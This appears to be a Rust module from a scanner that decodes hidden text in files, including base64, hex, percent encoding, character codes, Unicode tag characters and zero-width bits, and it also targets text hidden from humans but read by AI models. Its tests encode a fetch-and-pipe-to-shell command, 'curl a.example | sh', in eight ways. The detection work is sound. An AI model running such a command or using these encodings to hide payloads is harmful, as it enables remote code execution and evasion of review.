//! What is encoded in a text: base64, hex, percent, character codes, tags. Each with the line it stands in.

use base64::{
    Engine,
    alphabet::STANDARD,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};

use crate::{clean::is_invisible, source::Source};

/// Encoded pieces of one file that are looked into, and how much may come out of all.
const PIECES: usize = 256;
const DECODED: usize = 256 * 1024;
/// Shorter ones cannot hold a command worth hiding.
const LEAST: usize = 11;

const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &STANDARD,
    GeneralPurposeConfig::new().with_decode_allow_trailing_bits(true).with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

/// A text that was encoded.
pub(crate) struct Decoded {
    pub line: u32,
    pub how: &'static str,
    pub text: String,
}

/// All encoded texts of a file.
pub(crate) fn decoded(source: &Source) -> Vec<Decoded> {
    let mut found = Pieces::default();
    let mut wrapped = String::new();
    let mut wrapped_from = 0;
    for line in &source.lines {
        tags(line.text, line.number, &mut found);
        let text = &*line.meant;
        // Base64 over several lines.
        let trimmed = text.trim();
        if trimmed.len() >= 40 && trimmed.bytes().all(is_base64) {
            if wrapped.is_empty() {
                wrapped_from = line.number;
            }
            wrapped.push_str(trimmed);
            continue;
        }
        if !wrapped.is_empty() {
            // The last of them is often shorter.
            if trimmed.bytes().all(is_base64) {
                wrapped.push_str(trimmed);
            }
            tokens(&wrapped, wrapped_from, &mut found);
            wrapped.clear();
        }
        if text.len() >= LEAST {
            tokens(text, line.number, &mut found);
            percent(text, line.number, &mut found);
            codes(text, line.number, &mut found);
        }
        if found.is_full() {
            break;
        }
    }
    if !wrapped.is_empty() {
        tokens(&wrapped, wrapped_from, &mut found);
    }
    found.pieces
}

/// What characters nobody sees say on this line.
pub(crate) fn hidden(line: &str) -> Vec<String> {
    let mut found = Pieces::default();
    tags(line, 0, &mut found);
    found.pieces.into_iter().map(|piece| piece.text).collect()
}

#[derive(Default)]
struct Pieces {
    pieces: Vec<Decoded>,
    bytes: usize,
}

impl Pieces {
    fn is_full(&self) -> bool {
        self.pieces.len() >= PIECES || self.bytes >= DECODED
    }

    fn push(&mut self, line: u32, how: &'static str, bytes: &[u8]) {
        if self.is_full() {
            return;
        }
        if let Some(text) = readable(bytes) {
            self.bytes += text.len();
            self.pieces.push(Decoded { line, how, text });
        }
    }
}

/// The bytes as a text, if they look like one. PowerShell encodes UTF-16.
fn readable(bytes: &[u8]) -> Option<String> {
    if bytes.len() < 6 {
        return None;
    }
    let zeros = bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count();
    let text = if zeros * 2 >= bytes.len() / 2 {
        let units = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]]));
        char::decode_utf16(units).collect::<Result<String, _>>().ok()?
    } else {
        std::str::from_utf8(bytes).ok()?.to_owned()
    };
    let odd = text.chars().filter(|c| c.is_control() && !matches!(c, '\t' | '\n' | '\r')).count();
    let plain = text.is_ascii() || text.chars().filter(|c| c.is_alphabetic()).count() * 3 >= text.chars().count();
    (odd == 0 && plain).then_some(text)
}

fn is_base64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'=')
}

/// Words of base64 or hex.
fn tokens(text: &str, line: u32, found: &mut Pieces) {
    for token in text.split(|c: char| !c.is_ascii() || !is_base64(c as u8)) {
        let token = token.trim_end_matches('=');
        // `key=value` is one word of these letters too.
        for token in token.split('=') {
            if token.len() < LEAST {
                continue;
            }
            let digits = token.strip_prefix("0x").unwrap_or(token);
            if digits.len() % 2 == 0 && digits.bytes().all(|b| b.is_ascii_hexdigit()) {
                let bytes: Option<Vec<u8>> =
                    digits.as_bytes().chunks(2).map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok()).collect();
                found.push(line, "hex", &bytes.unwrap_or_default());
                continue;
            }
            let standard: String = token
                .chars()
                .map(|c| match c {
                    '-' => '+',
                    '_' => '/',
                    c => c,
                })
                .collect();
            // A last letter that stands for no whole byte.
            let standard = if standard.len() % 4 == 1 { &standard[..standard.len() - 1] } else { &standard };
            if let Ok(bytes) = LENIENT.decode(standard) {
                found.push(line, "base64", &bytes);
            }
        }
    }
}

fn percent(text: &str, line: u32, found: &mut Pieces) {
    let is_code = |at: usize| text.as_bytes().get(at + 1..at + 3).is_some_and(|digits| digits.iter().all(u8::is_ascii_hexdigit));
    if text.match_indices('%').filter(|(at, _)| is_code(*at)).count() < 2 {
        return;
    }
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let code = (bytes[i] == b'%' && is_code(i)).then(|| u8::from_str_radix(text.get(i + 1..i + 3)?, 16).ok()).flatten();
        out.push(code.unwrap_or(bytes[i]));
        i += if code.is_some() { 3 } else { 1 };
    }
    found.push(line, "percent signs", &out);
}

/// `99,117,114,108`, `chr(99)+chr(117)`, `[char]99`, `63 75 72 6c`: at least six in a row.
fn codes(text: &str, line: u32, found: &mut Pieces) {
    for (radix, how) in [(10, "character codes"), (16, "hex")] {
        let mut bytes = Vec::new();
        let mut push = |bytes: &mut Vec<u8>| {
            if bytes.len() >= 6 {
                found.push(line, how, bytes);
            }
            bytes.clear();
        };
        // Everything between two numbers may be punctuation and the names of what turns a number into a character.
        for word in text.split(|c: char| !c.is_ascii_alphanumeric()).filter(|word| !word.is_empty()) {
            let lower = word.to_ascii_lowercase();
            let number = lower.strip_prefix("0x").or(lower.strip_prefix("char")).or(lower.strip_prefix("chr")).unwrap_or(&lower);
            let long_enough = radix == 10 || number.len() == 2;
            match u8::from_str_radix(number, radix) {
                Ok(byte) if long_enough && (byte >= b' ' || byte == b'\n' || byte == b'\t') && byte < 127 => bytes.push(byte),
                _ if matches!(number, "" | "chr" | "char" | "string" | "fromcharcode" | "join") => {}
                _ => push(&mut bytes),
            }
        }
        push(&mut bytes);
    }
}

/// Text in tag characters and in variation selectors, which nobody sees and models read.
fn tags(text: &str, line: u32, found: &mut Pieces) {
    if text.is_ascii() {
        return;
    }
    let tags: Vec<u8> =
        text.chars().filter_map(|c| u8::try_from((c as u32).checked_sub(0xE0000)?).ok().filter(|b| (32..127).contains(b))).collect();
    found.push(line, "tag characters", &tags);
    let selectors: Vec<u8> = text
        .chars()
        .filter_map(|c| match c as u32 {
            n @ 0xFE00..=0xFE0F => Some((n - 0xFE00) as u8),
            n @ 0xE0100..=0xE01EF => Some((n - 0xE0100 + 16) as u8),
            _ => None,
        })
        .collect();
    found.push(line, "variation selectors", &selectors);
    // Zero-width characters as bits, in either order.
    let bits: Vec<char> =
        text.chars().filter(|c| is_invisible(*c) && matches!(c, '\u{200B}'..='\u{200D}' | '\u{2060}' | '\u{FEFF}')).collect();
    if let Some(first) = bits.first().filter(|_| bits.len() >= 48) {
        for one in [true, false] {
            let bytes: Vec<u8> =
                bits.chunks_exact(8).map(|eight| eight.iter().fold(0, |n, bit| n << 1 | u8::from((bit == first) == one))).collect();
            found.push(line, "zero-width characters", &bytes);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all(text: &str) -> Vec<String> {
        decoded(&Source::new("a.txt", text)).into_iter().map(|piece| piece.text).collect()
    }

    #[test]
    fn encoded_texts_are_found() {
        for text in [
            "x Y3VybCBhLmV4YW1wbGUgfCBzaA== y",
            "key=Y3VybCBhLmV4YW1wbGUgfCBzaA",
            "6375726c20612e6578616d706c65207c207368",
            "%63%75%72%6C%20a.example%20%7C%20sh",
            "[99,117,114,108,32,97,46,101,120,97,109,112,108,101,32,124,32,115,104]",
            "chr(99)+chr(117)+chr(114)+chr(108)+' '+chr(32)+chr(97)",
            "63 75 72 6c 20 61 2e 65 78 61 6d 70 6c 65 20 7c 20 73 68",
            "YwB1AHIAbAAgAGEALgBlAHgAYQBtAHAAbABlACAAfAAgAHMAaAA=",
        ] {
            assert!(all(text).iter().any(|found| found.contains("curl")), "{text}: {:?}", all(text));
        }
    }

    #[test]
    fn words_and_digests_are_nothing_encoded() {
        assert!(
            all("task-coordination-strategies 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 InvokeExpressionAsync")
                .is_empty()
        );
    }
}
